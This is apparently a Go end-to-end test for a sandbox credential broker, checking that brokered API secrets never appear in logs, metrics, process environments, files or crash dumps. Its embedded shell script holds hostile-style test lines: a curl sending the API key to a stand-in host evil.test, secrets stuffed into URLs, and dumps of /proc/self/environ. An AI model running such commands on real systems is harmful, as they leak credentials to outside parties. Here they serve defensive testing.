package e2e

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"tagout/internal/cgroup"
	"tagout/internal/instance"
	"tagout/internal/testenv"
	"tagout/internal/wire"
)

var credentialsFor = flag.Duration("credentials.for", 4*time.Second, "how long secrets are used before everything is searched for them")

// busyCard brokers two secrets: one towards the API, inspected, and one towards a server that shows what it gets.
var busyCard = strings.NewReplacer(
	"    - host: ticks.vendor.test\n      ports: [7000]\n      protocol: tcp\n",
	"    - host: echo.vendor.test\n      ports: [8081]\n      protocol: http\n      credential: echo_api\n",
	"    - {secret: vendor_api, env: VENDOR_API_KEY}\n",
	"    - {secret: vendor_api, env: VENDOR_API_KEY}\n    - {secret: echo_api, env: ECHO_API_KEY}\n",
).Replace(card)

// busy uses both secrets, rightly and wrongly, until the time in $END.
const busy = `
echo "$$ began" > /workspace/busy.log
while [ "$(date +%s)" -lt "$END" ]; do
  for v in --http1.1 --http2; do
    curl -sk $v --noproxy '*' -H "Authorization: Bearer $VENDOR_API_KEY" https://api.vendor.test/v1/whoami
    curl -sk $v --noproxy '*' -H "X-Api-Key: $VENDOR_API_KEY" -X DELETE https://api.vendor.test/v1/none
    curl -sk $v --noproxy '*' -u "user:$VENDOR_API_KEY" https://api.vendor.test/v1/whoami
    curl -sk $v --noproxy '*' -H "Authorization: Bearer $VENDOR_API_KEY" -d "key=$VENDOR_API_KEY" "https://api.vendor.test/v1/whoami?key=$VENDOR_API_KEY"
    curl -sk $v --noproxy '*' -H "Authorization: Bearer $ECHO_API_KEY" https://api.vendor.test/v1/whoami
  done
  for way in clear base64 base64url hex query chunks trailer error; do
    curl -s --noproxy '*' -H "Authorization: Bearer $ECHO_API_KEY" "http://echo.vendor.test:8081/$way"
    curl -s --noproxy '*' -H "X-Api-Key: $ECHO_API_KEY" -d body "http://echo.vendor.test:8081/$way"
  done
  curl -s --noproxy '*' -H "Authorization: Bearer $ECHO_API_KEY" http://files.vendor.test/hello.txt
  curl -s --noproxy '*' -H "Authorization: Bearer $ECHO_API_KEY" "http://echo.vendor.test:8081/$ECHO_API_KEY?k=$ECHO_API_KEY"
  curl -s --noproxy '*' -H "Authorization: Bearer tgo_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" http://echo.vendor.test:8081/clear
  curl -s -m 2 -H "Authorization: Bearer $VENDOR_API_KEY" http://evil.test/
done >> /workspace/busy.log 2>&1
env >> /workspace/busy.log; cat /proc/self/environ >> /tmp/environ
`

// echoSecrets shows what it gets, in the ways in which services do. got is called with what a request carried.
func echoSecrets(t *testing.T, box *testenv.Box, got func(value string)) {
	t.Helper()
	at := netip.AddrPortFrom(box.Net.FilesAddr(), 8081)
	var l net.Listener
	if err := box.Net.Do(func() (err error) {
		l, err = net.Listen("tcp4", at.String())
		return err
	}); err != nil {
		t.Fatal(err)
	}
	box.Net.DNS.SetHost("echo.vendor.test", at.Addr())
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		value := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") + r.Header.Get("X-Api-Key")
		got(value)
		w.Header().Set("X-Echo", value)
		show := map[string]string{
			"/base64": base64.StdEncoding.EncodeToString([]byte("a " + value)), "/base64url": base64.RawURLEncoding.EncodeToString([]byte("me" + value)),
			"/hex": hex.EncodeToString([]byte(value)), "/query": url.QueryEscape(value),
		}[r.URL.Path]
		switch r.URL.Path {
		case "/chunks":
			for i := range len(value) {
				io.WriteString(w, value[i:i+1])
				http.NewResponseController(w).Flush()
			}
			return
		case "/trailer":
			w.Header().Set("Trailer", "X-End")
			defer w.Header().Set("X-End", value)
		case "/error":
			w.WriteHeader(http.StatusInternalServerError)
		}
		fmt.Fprintf(w, "you sent %s%s %v\n", value, show, r.Header)
	})}
	done := make(chan struct{})
	go func() { defer close(done); srv.Serve(l) }()
	t.Cleanup(func() { srv.Close(); <-done })
}

// forms returns the ways in which a value could be written down. In base64 its characters depend on what stands before it:
// there are three, without the characters at the ends that hold something else.
func forms(value string) map[string]string {
	js, _ := json.Marshal(value)
	out := map[string]string{
		"clear": value, "hex": hex.EncodeToString([]byte(value)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(value))),
		"query": url.QueryEscape(value), "path": url.PathEscape(value), "json": strings.Trim(string(js), `"`), "go": strings.Trim(strconv.Quote(value), `"`),
	}
	for before := range 3 {
		for name, enc := range map[string]*base64.Encoding{"base64": base64.RawStdEncoding, "base64url": base64.RawURLEncoding} {
			text := enc.EncodeToString([]byte(strings.Repeat("x", before) + value))
			from := (before*8 + 5) / 6
			out[fmt.Sprint(name, before)] = text[from : len(value)*8/6+from-1]
		}
	}
	return out
}

// search looks for secrets in texts.
type search struct {
	what  map[string]string // form -> text
	found []string
	n     int // texts
}

func newSearch(values ...string) *search {
	s := &search{what: map[string]string{}}
	for i, v := range values {
		for form, text := range forms(v) {
			s.what[fmt.Sprintf("secret %d in %s", i, form)] = text
		}
	}
	return s
}

func (s *search) look(where string, raw []byte) {
	s.n++
	for form, text := range s.what {
		if bytes.Contains(raw, []byte(text)) {
			s.found = append(s.found, where+" holds "+form)
		}
	}
}

// files looks into every regular file below dir, names included.
func (s *search) files(dir string) {
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil // it vanished
		}
		if d.Type().IsRegular() {
			if raw, err := os.ReadFile(path); err == nil {
				s.look(path, append(raw, path...))
			}
		}
		return nil
	})
}

// processes looks at what every process of the machine was started with.
func (s *search) processes() {
	all, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range all {
		for _, file := range []string{"environ", "cmdline", "comm"} {
			if raw, err := os.ReadFile(filepath.Join(dir, file)); err == nil && len(raw) > 0 {
				s.look(filepath.Join(dir, file), raw)
			}
		}
	}
}

// everywhere looks at all that the box leaves for others to see.
func (s *search) everywhere(box *testenv.Box, kids ...wire.Kid) {
	s.files(box.Inst.RunDir())
	s.files(box.Inst.StateDir())
	s.processes()
	for _, kid := range kids {
		for _, dir := range []string{"workspace", "tmp", "run", "etc", "home", "root", "var/tmp"} {
			s.files(filepath.Join(rootOf(box.T, kid), dir))
		}
	}
	for _, daemon := range instance.Daemons() {
		resp, err := box.Client(daemon).Do(box.T.Context(), http.MethodGet, "/metrics", nil, "")
		if err != nil {
			box.T.Errorf("metrics of %s: %v", daemon, err)
			continue
		}
		raw, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			box.T.Error(err)
		}
		s.look("metrics of "+daemon, raw)
	}
	s.cores()
}

// rootOf is the kid's root directory, as the kernel shows it.
func rootOf(t testing.TB, kid wire.Kid) string {
	t.Helper()
	pids, err := cgroup.Procs(kid.Cgroup)
	if err != nil || len(pids) == 0 {
		t.Fatalf("kid %s has no process: %v", kid.Name, err)
	}
	return filepath.Join("/proc", strconv.Itoa(pids[0]), "root")
}

// cores looks into what crashes have left: where the kernel puts cores, and in the directories that processes work in.
func (s *search) cores() {
	dirs := []string{"/", "/var/crash", "/var/lib/systemd/coredump", "/tmp"}
	if raw, err := os.ReadFile("/proc/sys/kernel/core_pattern"); err == nil && strings.HasPrefix(string(raw), "/") {
		dirs = append(dirs, filepath.Dir(strings.TrimSpace(string(raw))))
	}
	for _, dir := range dirs {
		names, _ := filepath.Glob(filepath.Join(dir, "*core*"))
		for _, name := range names {
			if info, err := os.Lstat(name); err == nil && info.Mode().IsRegular() {
				if raw, err := os.ReadFile(name); err == nil {
					s.look(name, raw)
				}
			}
		}
	}
}

// TestSecretsNeverShow (invariant 3): two secrets are brokered for a kid that uses them rightly and wrongly, over HTTP/1.1
// and HTTP/2, towards servers that show them, and an operator looks at and into everything; then credd dies of a signal.
// Nothing that anybody but credd and the proxy can read holds one, in any usual form: no log, record, metric, error, answer,
// environment, command line, file of the kid's, or crash. The control plants each form, and each is found.
//
// make soak-credentials FOR=1h does so for an hour.
func TestSecretsNeverShow(t *testing.T) {
	t.Parallel()
	box := start(t)
	value := "s3cr+t/va=lue \"" + strings.Repeat("q7", 8) + "\" %20&" + box.Inst.Name()
	box.SetSecret("echo_api", value, "echo.vendor.test:8081")
	var mu sync.Mutex
	shown, other := 0, 0
	echoSecrets(t, box, func(got string) {
		mu.Lock()
		defer mu.Unlock()
		if got == value {
			shown++
		} else {
			other++
		}
	})
	kid := box.Spawn(busyCard, hostile(t, box))
	before := box.Net.API.Uses.Total().Accepted
	var said bytes.Buffer
	end := time.Now().Add(*credentialsFor)
	busily := make(chan testenv.Output, 1)
	go func() {
		out, err := box.TryLongExec(t.Context(), kid.Name, wire.ExecRequest{Argv: []string{"/bin/bash", "-c", busy}, Env: map[string]string{"END": strconv.FormatInt(end.Unix()+1, 10)}})
		if err != nil {
			out.Stderr += err.Error()
		}
		busily <- out
	}()
	for first := true; first || time.Now().Before(end); first = false {
		operate(box, kid, &said)
	}
	out := <-busily
	said.WriteString(out.Stdout + out.Stderr)
	if n := box.Net.API.Uses.Total().Accepted - before; n == 0 {
		t.Error("the API accepted no use: nothing was brokered")
	}
	mu.Lock()
	if shown == 0 {
		t.Errorf("the server that shows secrets got none, and %d other values: the search shows nothing", other)
	}
	mu.Unlock()

	values := []string{box.Net.Secret(), value}
	planted(t, box, kid, values)
	s := newSearch(values...)
	s.look("what the commands said", said.Bytes())
	s.everywhere(box, kid)
	crash(box)
	operate(box, kid, &said)
	s.look("what the commands said after a crash", said.Bytes())
	s.everywhere(box, kid)
	for i, what := range s.found {
		if i < 20 {
			t.Error(what)
		}
	}
	if s.n < 100 {
		t.Errorf("only %d texts were searched", s.n)
	}
	t.Logf("%d uses of the one secret and %d of the other; %d texts were searched in %d forms", box.Net.API.Uses.Total().Accepted-before, shown, s.n, len(s.what))
}

// operate is what an operator does meanwhile: look at everything, and get refused.
func operate(box *testenv.Box, kid wire.Kid, said *bytes.Buffer) {
	for _, args := range [][]string{
		{"vault", "ls", "--json"}, {"token", "ls", "--json"}, {"token", "ls"}, {"status", "--json"}, {"list", "--json"}, {"timeline", kid.Name}, {"logs", kid.Name, "--events"},
		{"stats", kid.Name}, {"vault", "rm", "no_such_secret"}, {"token", "revoke", "--secret", "no_such_secret"}, {"exec", kid.Name, "--", "cat", "/workspace/busy.log", "/proc/1/environ"},
		{"get", kid.Name, "/workspace/busy.log", "-"},
	} {
		r := box.Tagout(args...)
		said.WriteString(r.Stdout + r.Stderr)
	}
	for _, c := range []struct{ daemon, method, route string }{
		{instance.Credd, "POST", "/v1/resolve"}, {instance.Credd, "GET", "/v1/vault"}, {instance.Credd, "GET", "/v1/tokens"},
		{instance.Sandboxd, "GET", "/v1/kids/" + kid.Name}, {instance.Killswitchd, "GET", "/v1/status"}, {instance.Proxy, "GET", "/healthz"},
	} {
		var answer json.RawMessage
		err := box.Client(c.daemon).Call(box.T.Context(), c.method, c.route, nil, &answer)
		fmt.Fprintf(said, "%s %v\n", answer, err)
	}
}

// crash has credd die of SIGABRT, with what Go's runtime then says, and waits for the next one.
func crash(box *testenv.Box) {
	if err := unix.Kill(box.PID(instance.Credd), unix.SIGABRT); err != nil {
		box.T.Fatal(err)
	}
	box.Until(soon, "another credd serves", func() error {
		return box.Client(instance.Credd).Call(box.T.Context(), http.MethodGet, "/healthz", nil, nil)
	})
}

// planted is the control: each form of each secret is found in a log, in the kid, in an environment and on a command line.
func planted(t *testing.T, box *testenv.Box, kid wire.Kid, values []string) {
	t.Helper()
	for _, v := range values {
		for form, text := range forms(v) {
			file := filepath.Join(box.Inst.RunDir(), "planted")
			if err := os.WriteFile(file, []byte("before "+text+" after"), 0o600); err != nil {
				t.Fatal(err)
			}
			s := newSearch(values...)
			s.files(box.Inst.RunDir())
			if err := os.Remove(file); err != nil {
				t.Fatal(err)
			}
			if len(s.found) == 0 {
				t.Errorf("control: %s is not found in a file", form)
			}
		}
		sleeper := exec.Command("sleep", "300")
		sleeper.Args, sleeper.Env = []string{"sleep", "300"}, append(os.Environ(), "PLANTED="+v)
		named := exec.Command("/bin/sh", "-c", "read x # "+v)
		in, err := named.StdinPipe()
		if err == nil {
			err = sleeper.Start()
		}
		if err == nil {
			err = named.Start()
		}
		inKid := filepath.Join(rootOf(t, kid), "workspace", "planted")
		if err == nil {
			err = os.WriteFile(inKid, []byte(base64.StdEncoding.EncodeToString([]byte("x"+v))), 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
		s := newSearch(values...)
		s.everywhere(box, kid)
		for what, where := range map[string]string{
			"an environment": fmt.Sprintf("/proc/%d/environ", sleeper.Process.Pid), "a command line": fmt.Sprintf("/proc/%d/cmdline", named.Process.Pid), "a kid's file": inKid,
		} {
			if !strings.Contains(strings.Join(s.found, "\n"), where+" holds") {
				t.Errorf("control: a secret in %s is not found", what)
			}
		}
		sleeper.Process.Kill()
		sleeper.Wait() // killed
		in.Close()
		named.Wait() // its input has ended
		if err := os.Remove(inKid); err != nil {
			t.Fatal(err)
		}
	}
}
